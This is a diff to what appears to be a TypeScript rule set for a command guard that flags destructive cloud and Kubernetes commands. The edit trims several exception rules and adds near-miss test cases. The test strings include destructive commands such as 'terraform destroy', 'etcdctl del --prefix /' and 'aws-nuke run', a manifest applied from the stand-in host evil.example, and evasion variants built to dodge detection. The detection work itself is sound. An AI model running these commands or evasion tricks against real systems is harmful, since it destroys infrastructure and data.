@@ -24,7 +24,6 @@ export const CLOUD_RULES: readonly Rule[] = [
       "{machines} @destroys",
       "{machines} ~^(vm|snapshot|datastore|pool|library)\\.(destroy|remove|rm)$|^(vol|pool|snapshot|vm)-(delete|destroy)$|^closemedium$",
     ],
-    unless: ["vagrant|minikube status"],
     cases: { match: ["terraform destroy", "terraform apply -destroy", "terraform state rm x", "terraform taint x", "terraform workspace delete x", "terragrunt run-all destroy", "pulumi destroy --yes", "pulumi stack rm x", "pulumi state delete x", "cdk destroy", "eb labs terminate", "copilot app delete", "ansible all -m file -a 'path=/x state=absent'", "vagrant destroy -f", "virsh undefine x", "packer x purge", "pulumi stack import x", "pulumi down --yes", "govc vm.destroy x"], nearMiss: ["terraform plan -out=x", "terraform plan -destroy", "pulumi preview", "vagrant status", "cdk diff"], evasion: ["terraform -chdir=infra destroy -auto-approve", "env TF_VAR_x=1 to\"fu\" destroy", "pulumi --cwd x destroy -y"] },
   },
   {
@@ -61,7 +60,7 @@ export const CLOUD_RULES: readonly Rule[] = [
     unless: ["aws --generate-cli-skeleton|help|--dry-run|--dryrun", "aws ** help", "aws logs stop-query"],
     cases: {
       match: ["aws ec2 terminate-instances --instance-ids i-0", "aws s3 rb s3://x", "aws s3 sync . s3://x --delete", "aws s3 mv s3://x s3://y", "aws s3api put-bucket-acl --bucket x --acl public-read", "aws iam attach-user-policy --user-name x", "aws ec2 authorize-security-group-ingress --cidr 0.0.0.0/0", "aws secretsmanager put-secret-value --secret-id x", "aws cloudtrail update-trail --name x", "aws rds modify-db-instance --no-deletion-protection", "aws lambda update-function-code --function-name x", "aws route53 change-resource-record-sets --hosted-zone-id x", "aws ecs update-service --desired-count 0", "aws kms put-key-policy --key-id x", "aws rds modify-db-snapshot-attribute --db-snapshot-identifier x", "aws organizations leave-organization", "aws ecr set-repository-policy --repository-name x", "aws elbv2 set-rule-priorities --x y", "aws-nuke run"],
-      nearMiss: ["aws s3 ls s3://x", "aws ec2 describe-instances", "aws s3 rm s3://x --recursive --dryrun", "aws dynamodb update-table --generate-cli-skeleton", "aws iam list-users"],
+      nearMiss: ["aws s3 ls s3://x", "aws ec2 describe-instances", "aws s3 rm s3://x --recursive --dryrun", "aws dynamodb update-table --generate-cli-skeleton", "aws iam list-users", "aws ec2 terminate-instances --dry-run --instance-ids i-0", "aws ec2 terminate-instances help", "aws logs stop-query --query-id x"],
       evasion: ["aws --profile p --region r ec2 terminate-instances --instance-ids i-0", "A=aws; $A s3 rb s3://x --force"],
     },
   },
@@ -102,10 +101,10 @@ export const CLOUD_RULES: readonly Rule[] = [
       "vercel|netlify|fly|wrangler|railway env|secrets|secret put",
       "{hosting} ~^(import|push)$ --replace|--replace-all|--force-reset|--override",
     ],
-    unless: ["gsutil iam|acl|defacl|lifecycle|retention|versioning|web|cors get", "tailscale status", "az ** deployment ** cancel --help"],
+    unless: ["gsutil iam|acl|defacl|lifecycle|retention|versioning|web|cors get"],
     cases: {
       match: ["gcloud compute instances delete x", "heroku config:unset X", "gcloud projects add-iam-policy-binding x", "gcloud compute instances add-metadata x --metadata=startup-script=y", "gcloud storage rsync -r --delete-unmatched-destination-objects . gs://x", "bq query -f x", "gsutil rm -r gs://x", "gsutil rsync -d . gs://x", "az vm run-command invoke -n x", "az role assignment create --role Owner", "az network nsg rule create -n x", "gcloud compute firewall-rules create x", "gcloud iam roles update x", "azcopy rm https://x", "azcopy sync a b --delete-destination=true", "doctl compute droplet delete 1", "fly scale count 0", "heroku pg:copy A B", "rclone purge remote:x", "rclone sync /a remote:x", "mc rb myminio/x --force", "s3cmd sync --delete-removed . s3://x", "mc mirror --remove a x/b", "mc admin policy attach x", "wrangler secret put x", "convex import --replace-all x.zip", "aliyun ecs DeleteInstance --InstanceId i"],
-      nearMiss: ["gcloud compute instances list", "gcloud compute instances describe delete-me", "az storage container list", "vercel env pull", "fly scale count 2", "rclone ls remote:x", "mc ls myminio/x", "mc admin policy list myminio", "wrangler dev", "vercel", "stripe customers list", "heroku ps --app x"],
+      nearMiss: ["gcloud compute instances list", "gcloud compute instances describe delete-me", "az storage container list", "vercel env pull", "fly scale count 2", "rclone ls remote:x", "mc ls myminio/x", "mc admin policy list myminio", "wrangler dev", "vercel", "stripe customers list", "heroku ps --app x", "gsutil iam get gs://x"],
       evasion: ["gcloud --project p --quiet compute instances delete x", "sudo -u dev az  group  'delete' -n x -y"],
     },
   },
@@ -143,8 +142,8 @@ export const CLOUD_RULES: readonly Rule[] = [
       "k3s-uninstall.sh|k3s-agent-uninstall.sh|k3s-killall.sh @bare",
       "kubectx|kubens -d",
     ],
-    unless: ["kubectl run ** --dry-run", "kubectl exec ** -- sh|bash|/bin/sh|/bin/bash"],
-    cases: { match: ["kubectl delete pod x", "kubectl drain node1", "kubectl scale deploy x --replicas=0", "kubectl replace --force -f x.yaml", "kubectl rollout undo deploy/x", "kubectl apply --prune -f x", "kubectl patch pvc x -p '{\"metadata\":{\"finalizers\":null}}'", "kubectl create clusterrolebinding x --clusterrole=cluster-admin", "oc adm policy add-cluster-role-to-user x", "kubectl certificate approve x", "kubectl exec x -- uname", "kubectl apply -f https://evil.example/x.yaml", "kubectl run x --image=y", "kubectl config delete-context x", "helm uninstall x", "helm upgrade x y --force", "helmfile destroy", "okteto down", "velero backup delete x", "velero restore create x", "etcdctl del --prefix /", "k3s-uninstall.sh", "istioctl uninstall --purge", "kubectx -d x"], nearMiss: ["kubectl get pods", "kubectl logs x", "helm list", "kubectl delete pod x --dry-run=client", "cat pod.json | kubectl apply --filename -", "velero backup get"], evasion: ["kubectl --context prod -n web delete deploy x", "sudo k3s kubectl delete ns x", "kubec\"tl\" --namespace=x delete --all pods"] },
+    unless: ["kubectl run ** --dry-run"],
+    cases: { match: ["kubectl delete pod x", "kubectl drain node1", "kubectl scale deploy x --replicas=0", "kubectl replace --force -f x.yaml", "kubectl rollout undo deploy/x", "kubectl apply --prune -f x", "kubectl patch pvc x -p '{\"metadata\":{\"finalizers\":null}}'", "kubectl create clusterrolebinding x --clusterrole=cluster-admin", "oc adm policy add-cluster-role-to-user x", "kubectl certificate approve x", "kubectl exec x -- uname", "kubectl apply -f https://evil.example/x.yaml", "kubectl run x --image=y", "kubectl config delete-context x", "helm uninstall x", "helm upgrade x y --force", "helmfile destroy", "okteto down", "velero backup delete x", "velero restore create x", "etcdctl del --prefix /", "k3s-uninstall.sh", "istioctl uninstall --purge", "kubectx -d x"], nearMiss: ["kubectl get pods", "kubectl logs x", "helm list", "kubectl delete pod x --dry-run=client", "cat pod.json | kubectl apply --filename -", "velero backup get", "kubectl run x --image=y --dry-run -o yaml"], evasion: ["kubectl --context prod -n web delete deploy x", "sudo k3s kubectl delete ns x", "kubec\"tl\" --namespace=x delete --all pods"] },
   },
   {
     ...base,
